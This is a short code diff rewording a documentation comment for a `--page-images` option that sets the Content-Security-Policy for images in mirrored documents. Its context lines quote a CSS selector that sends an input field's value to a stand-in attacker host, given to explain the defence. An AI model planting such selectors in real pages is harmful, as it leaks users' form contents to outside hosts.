@@ -1,5 +1,6 @@
-/// The images of other hosts that a document in its frame may load. The option `--page-images`
-/// chooses a policy. ``DocumentPage`` writes it into the `Content-Security-Policy` of the document.
+/// Which images of other hosts a mirrored document may load while the inspector shows it in a
+/// frame. The option `--page-images` chooses a policy. ``DocumentPage`` writes it into the
+/// `Content-Security-Policy` of the document.
 ///
 /// An image is a request, so a page that loads images can reveal its content: a style such as
 /// `input[value^="a"] { background: url(https://evil.test/a) }` requests a different address for
